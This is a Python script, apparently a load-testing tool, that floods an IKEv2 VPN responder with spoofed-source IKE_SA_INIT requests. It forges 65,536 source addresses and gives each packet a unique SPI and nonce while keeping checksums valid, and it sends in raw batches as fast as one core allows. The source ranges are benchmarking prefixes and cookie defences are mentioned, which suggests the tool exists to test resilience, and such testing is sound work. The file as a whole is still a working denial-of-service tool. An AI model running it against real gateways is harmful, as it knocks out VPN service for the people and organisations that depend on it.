"""IKE_SA_INIT requests with made-up senders, as fast as one core sends them.

    flood.py TARGET COUNT PER-SECOND SOURCES

Each comes from another of 65,536 addresses below the prefix SOURCES (198.18.0.0 or 2001:2::), with an SPI and a nonce of
its own, and is whole and acceptable: only a cookie can tell that its sender does not receive. Ends when a line comes in and
COUNT were sent, and prints how many, as JSON. PER-SECOND 0 means no limit.

A quarter of a thousand are made by a handful of assignments to every nth octet of one buffer. What changes in an address or an
SPI is taken back in the IPv4 identification and in the nonce, so that every checksum stays what it was.
"""
import ctypes
import ipaddress
import json
import os
import select
import struct
import sys
import time

from link import Link

target, count, rate, sources = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
BATCH = 256


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def transform(last, kind, number, attributes=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attributes), kind, 0, number) + attributes


def first_message():
    """AES-GCM-16 with 256 bits, HMAC-SHA2-256, X25519."""
    transforms = transform(False, 1, 20, struct.pack("!HH", 0x800E, 256)) + transform(False, 2, 5) + transform(True, 4, 31)
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    body = payload(34, proposal) + payload(40, struct.pack("!HH", 31, 0) + os.urandom(32)) + payload(0, bytes(6) + os.urandom(26))
    return os.urandom(4) + bytes(12) + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class sockaddr_iov(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class msghdr(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(sockaddr_iov)), ("iovlen", ctypes.c_size_t),
        ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int)]


class mmsghdr(ctypes.Structure):
    _fields_ = [("header", msghdr), ("sent", ctypes.c_uint)]


link = Link(target)
is_v6 = ":" in target
source, destination = ipaddress.ip_address(sources).packed, ipaddress.ip_address(target).packed
message = first_message()
udp = struct.pack("!HHHH", 500, 500, 8 + len(message), 0)
pseudo = source + destination + struct.pack("!IHH", len(udp) + len(message), 0, 17)
# What stands at the places that change is zero in address and SPI and all ones in what takes it back.
message = bytearray(message)
nonce = len(message) - 32
message[nonce:nonce + 6] = b"\xff" * 6
udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp + message) or 0xFFFF)
if is_v6:
    ip = struct.pack("!IHBB", 6 << 28, len(udp) + len(message), 17, 64) + source + destination
else:
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 28 + len(message), 0xFFFF, 0, 64, 17, 0) + source + destination
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
frame = link.header + ip + udp + message
size = len(frame) + len(frame) % 2
address = len(link.header) + (22 if is_v6 else 14)
identification = None if is_v6 else len(link.header) + 4
spi = len(link.header) + len(ip) + len(udp) + 4
nonce += len(link.header) + len(ip) + len(udp)

buffer = bytearray(frame.ljust(size, b"\0") * BATCH)
memory = (ctypes.c_char * len(buffer)).from_buffer(buffer)
start = ctypes.addressof(memory)
vectors = (sockaddr_iov * BATCH)(*(sockaddr_iov(start + i * size, len(frame)) for i in range(BATCH)))
messages = (mmsghdr * BATCH)(*(mmsghdr(msghdr(None, 0, ctypes.pointer(vectors[i]), 1, None, 0, 0), 0) for i in range(BATCH)))
libc = ctypes.CDLL(None, use_errno=True)


def put(place, back, octet):
    """One octet of every frame of the batch, and its complement in the places that take it back."""
    octets = bytes(range(256)) if octet is None else bytes([octet]) * BATCH
    inverse = bytes(255 - o for o in octets)
    buffer[place::size] = octets
    for at in back:
        buffer[at::size] = inverse


put(address + 1, [nonce + 1] + ([] if is_v6 else [identification + 1]), None)
put(spi + 3, [nonce + 5], None)
sent, batch, began = 0, 0, time.monotonic()
while sent < count or not select.select([sys.stdin], [], [], 0)[0]:
    put(address, [nonce] + ([] if is_v6 else [identification]), batch & 0xFF)
    put(spi + 2, [nonce + 4], batch & 0xFF)
    put(spi + 1, [nonce + 3], batch >> 8 & 0xFF)
    put(spi, [nonce + 2], batch >> 16 & 0xFF)
    batch += 1
    done = 0
    while done < BATCH:
        got = libc.sendmmsg(link.socket.fileno(), ctypes.byref(messages, done * ctypes.sizeof(mmsghdr)), BATCH - done, 0)
        if got > 0:
            done += got
        else:
            time.sleep(0.001)
    sent += BATCH
    if rate:
        time.sleep(max(0, began + sent / rate - time.monotonic()))
print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - began, 2)}))
